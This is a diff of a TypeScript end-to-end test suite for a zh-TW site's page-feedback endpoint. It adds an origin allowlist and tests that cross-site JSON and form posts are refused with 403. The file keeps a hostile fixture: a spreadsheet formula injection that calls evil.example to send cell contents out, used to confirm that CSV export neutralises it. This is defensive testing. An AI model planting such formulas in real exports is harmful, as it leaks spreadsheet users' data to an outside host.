@@ -13,11 +13,12 @@ import { NO_TWO_STEP, startTestServer, type TestServer } from '../support/test-s
 
 const ADMIN = { account: 'admin', password: 'Admin#2026', displayName: '系統管理者', admin: true };
 const NONE = { r: false, w: false, d: false, p: false };
+const ALLOWED = 'https://editor.example.tw';
 const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"點我")';
 
 /**
- * 頁面回饋 end to end on a real server: a visitor's 是 or 否 by JSON and by the plain form, the
- * refusals in zh-TW (400, 403, 404, 429), and what staff read of it, per their rights, as a list,
+ * 頁面回饋 end to end on a real server: a visitor's 是 or 否 by JSON and by the plain form, from
+ * this site's own pages only, the refusals in zh-TW (400, 403, 404, 429), and what staff read of it, per their rights, as a list,
  * a page's comments and a CSV whose hostile cells stay text.
  */
 describe('頁面回饋', () => {
@@ -50,6 +51,7 @@ describe('頁面回饋', () => {
         },
         images: () => [],
       },
+      corsOrigins: [ALLOWED],
       ...NO_TWO_STEP,
     });
   });
@@ -130,6 +132,63 @@ describe('頁面回饋', () => {
       { path: 'about', no: 0, yes: 1 },
       { path: 'news', no: 1, yes: 0 },
     ]);
+  });
+
+  it('refuses an answer posted from another site’s page with 403 in zh-TW, by JSON or form, and stores nothing', async () => {
+    for (const origin of ['https://evil.example.com', 'null', server.baseUrl.replace('http:', 'https:')]) {
+      const json = await postJson(
+        url(PAGE_FEEDBACK_PATHS.answer('about')),
+        { helpful: false, comment: '假的意見' },
+        { origin },
+      );
+      expect(expectErrorBody(json, 403).error_description).toBe('不接受來自其他網站的送出。');
+      // Another site's plain form is as easy to post: its visitor reads the refusal as a page.
+      const form = await postForm<string>(
+        url(PAGE_FEEDBACK_PATHS.answer('news')),
+        { helpful: 'no', comment: '假的意見', itemId: 'n2', back: '/zh-tw/news/n2' },
+        { origin },
+      );
+      expect(form.status).toBe(403);
+      expect(form.headers.get('content-type')).toMatch(/^text\/html/);
+      expect(form.headers.get('cache-control')).toBe('no-store');
+      expect(form.body).toContain('<p role="status">不接受來自其他網站的送出。</p>');
+      expect(form.body).toContain('<a href="/zh-tw/news/n2">回到剛才的頁面</a>');
+    }
+    const list = await getJson<PageFeedbackPage>(url(PAGE_FEEDBACK_PATHS.pages), await staff('editor'));
+    expect(list.body).toEqual({ rows: [], total: 0 });
+  });
+
+  it('takes an answer from this site’s own pages by JSON and form, from an allowed origin, and without Origin', async () => {
+    const ours = { origin: server.baseUrl };
+    expect(
+      (await postJson(url(PAGE_FEEDBACK_PATHS.answer('news')), { helpful: true, itemId: 'n1' }, ours)).body,
+    ).toEqual({ ok: true });
+    const form = await postForm<string>(
+      url(PAGE_FEEDBACK_PATHS.answer('news')),
+      { helpful: 'no', itemId: 'n2', back: '/zh-tw/news/n2' },
+      ours,
+    );
+    expect(form.status).toBe(200);
+    expect(form.body).toContain(PAGE_FEEDBACK_TEXT.thanks);
+    const allowed = await postJson(
+      url(PAGE_FEEDBACK_PATHS.answer('news')),
+      { helpful: false, itemId: 'n3' },
+      { origin: ALLOWED },
+    );
+    expect(allowed.status).toBe(200);
+    // Node's fetch names no Origin, as a script of no browser.
+    expect((await answer('about', { helpful: true })).status).toBe(200);
+
+    const list = await getJson<PageFeedbackPage>(url(PAGE_FEEDBACK_PATHS.pages), await staff('editor'));
+    expect(list.body.rows.map(({ path, itemId, yes, no }) => ({ path, itemId, yes, no }))).toEqual(
+      expect.arrayContaining([
+        { path: 'news', itemId: 'n1', yes: 1, no: 0 },
+        { path: 'news', itemId: 'n2', yes: 0, no: 1 },
+        { path: 'news', itemId: 'n3', yes: 0, no: 1 },
+        { path: 'about', itemId: '', yes: 1, no: 0 },
+      ]),
+    );
+    expect(list.body.total).toBe(4);
   });
 
   it('refuses bad input with 400 in zh-TW: no answer, a comment over 200 characters, never cut', async () => {
